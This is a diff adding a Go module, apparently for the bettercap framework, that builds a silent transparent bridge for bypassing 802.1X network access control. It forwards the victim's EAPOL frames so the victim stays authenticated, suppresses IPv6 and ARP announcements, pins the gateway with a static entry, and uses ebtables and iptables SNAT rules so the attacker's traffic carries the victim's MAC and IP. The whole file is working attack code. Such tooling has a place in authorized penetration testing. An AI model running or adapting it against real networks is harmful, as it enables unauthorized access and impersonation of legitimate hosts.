@@ -0,0 +1,156 @@
+// +build linux
+
+package nac_bridge
+
+import (
+	"fmt"
+	"net"
+	"strings"
+
+	"github.com/bettercap/bettercap/core"
+)
+
+const (
+	// forward 01:80:c2:00:00:03 frames so that the victim can keep authenticating with the switch
+	eapolForwardMask = "8"
+	// source ports used for our connections, hopefully unused by the victim
+	snatPorts = "61000-62000"
+)
+
+// run a command, if undo is not nil it will be executed when the bridge is removed
+func (mod *NACBridge) exec(undo []string, executable string, args ...string) error {
+	mod.Debug("%s %s", executable, strings.Join(args, " "))
+	if out, err := core.Exec(executable, args); err != nil {
+		return fmt.Errorf("%s %s: %v %s", executable, strings.Join(args, " "), err, out)
+	}
+
+	if undo != nil {
+		mod.teardown = append(mod.teardown, undo)
+	}
+	return nil
+}
+
+// same as exec, but undone by replacing -A with -D in the arguments
+func (mod *NACBridge) rule(executable string, args ...string) error {
+	undo := []string{executable}
+	for _, arg := range args {
+		if arg == "-A" {
+			arg = "-D"
+		}
+		undo = append(undo, arg)
+	}
+	return mod.exec(undo, executable, args...)
+}
+
+// don't let the kernel announce anything on the wire, ipv6 would send router solicitations right away
+func (mod *NACBridge) silence(iface string) {
+	if err := mod.exec(nil, "sysctl", "-w", fmt.Sprintf("net.ipv6.conf.%s.disable_ipv6=1", iface)); err != nil {
+		mod.Warning("%v", err)
+	}
+}
+
+func (mod *NACBridge) setupBridge() error {
+	ports := []string{mod.switchIface, mod.victimIface}
+
+	for _, iface := range ports {
+		mod.silence(iface)
+	}
+
+	if err := mod.exec([]string{"ip", "link", "del", mod.bridge}, "ip", "link", "add", "name", mod.bridge, "type", "bridge"); err != nil {
+		return err
+	} else if err := mod.exec(nil, "ip", "link", "set", mod.bridge, "type", "bridge", "group_fwd_mask", eapolForwardMask, "stp_state", "0"); err != nil {
+		return err
+	}
+
+	mod.silence(mod.bridge)
+
+	for _, iface := range ports {
+		if err := mod.exec(nil, "ip", "addr", "flush", "dev", iface); err != nil {
+			return err
+		} else if err := mod.exec([]string{"ip", "link", "set", iface, "promisc", "off"}, "ip", "link", "set", iface, "promisc", "on"); err != nil {
+			return err
+		} else if err := mod.exec([]string{"ip", "link", "set", iface, "nomaster"}, "ip", "link", "set", iface, "master", mod.bridge); err != nil {
+			return err
+		} else if err := mod.exec(nil, "ip", "link", "set", iface, "up"); err != nil {
+			return err
+		}
+	}
+
+	// no arp either, the gateway will be resolved with a static entry
+	if err := mod.exec(nil, "ip", "link", "set", mod.bridge, "arp", "off"); err != nil {
+		return err
+	} else if err := mod.exec(nil, "ip", "link", "set", mod.bridge, "up"); err != nil {
+		return err
+	}
+
+	br, err := net.InterfaceByName(mod.bridge)
+	if err != nil {
+		return err
+	}
+	mod.bridgeHW = br.HardwareAddr
+
+	return nil
+}
+
+func (mod *NACBridge) piggyback() error {
+	// the bridged traffic must go through the netfilter hooks for the nat rules and the proxies to work
+	if err := mod.exec(nil, "sysctl", "-w", "net.bridge.bridge-nf-call-iptables=1"); err != nil {
+		mod.Warning("%v (is the br_netfilter kernel module loaded?)", err)
+	}
+
+	if out, err := core.Exec("ip", []string{"route", "show", "default"}); err == nil && out != "" {
+		mod.origRoute = strings.Fields(strings.Split(out, "\n")[0])
+	}
+
+	addr := fmt.Sprintf("%s/24", mod.address)
+	gw := mod.gateway.String()
+
+	if err := mod.exec([]string{"ip", "addr", "flush", "dev", mod.bridge}, "ip", "addr", "add", addr, "dev", mod.bridge); err != nil {
+		return err
+	} else if err := mod.exec([]string{"ip", "neigh", "del", gw, "dev", mod.bridge}, "ip", "neigh", "replace", gw, "lladdr", mod.victim.GatewayHW, "dev", mod.bridge, "nud", "permanent"); err != nil {
+		return err
+	} else if err := mod.exec([]string{"ip", "route", "del", "default", "via", gw, "dev", mod.bridge}, "ip", "route", "replace", "default", "via", gw, "dev", mod.bridge); err != nil {
+		return err
+	}
+
+	// frames leaving the bridge look like they come from the victim towards the switch and from the gateway towards the victim
+	brHW := mod.bridgeHW.String()
+	if err := mod.rule("ebtables", "-t", "nat", "-A", "POSTROUTING", "-s", brHW, "-o", mod.switchIface, "-j", "snat", "--to-src", mod.victim.HW); err != nil {
+		return err
+	} else if err := mod.rule("ebtables", "-t", "nat", "-A", "POSTROUTING", "-s", brHW, "-o", mod.victimIface, "-j", "snat", "--to-src", mod.victim.GatewayHW); err != nil {
+		return err
+	}
+
+	// and packets leaving the bridge look like they come from the victim address
+	src := mod.address.String()
+	for _, proto := range []string{"tcp", "udp"} {
+		if err := mod.rule("iptables", "-t", "nat", "-A", "POSTROUTING", "-o", mod.bridge, "-s", src, "-p", proto, "-j", "SNAT", "--to", mod.victim.IP+":"+snatPorts); err != nil {
+			return err
+		}
+	}
+	return mod.rule("iptables", "-t", "nat", "-A", "POSTROUTING", "-o", mod.bridge, "-s", src, "-p", "icmp", "-j", "SNAT", "--to", mod.victim.IP)
+}
+
+// undo everything in reverse order
+func (mod *NACBridge) removeBridge() {
+	for i := len(mod.teardown) - 1; i >= 0; i-- {
+		undo := mod.teardown[i]
+		if out, err := core.Exec(undo[0], undo[1:]); err != nil {
+			mod.Warning("%s %s: %v %s", undo[0], strings.Join(undo[1:], " "), err, out)
+		}
+	}
+	mod.teardown = make([][]string, 0)
+
+	if mod.origRoute != nil {
+		if _, err := core.Exec("ip", append([]string{"route", "replace"}, mod.origRoute...)); err != nil {
+			mod.Warning("could not restore the default route %s: %v", strings.Join(mod.origRoute, " "), err)
+		}
+		mod.origRoute = nil
+	}
+
+	for _, iface := range []string{mod.switchIface, mod.victimIface} {
+		core.Exec("ip", []string{"link", "set", iface, "up"})
+	}
+
+	mod.Info("bridge %s removed", mod.bridge)
+}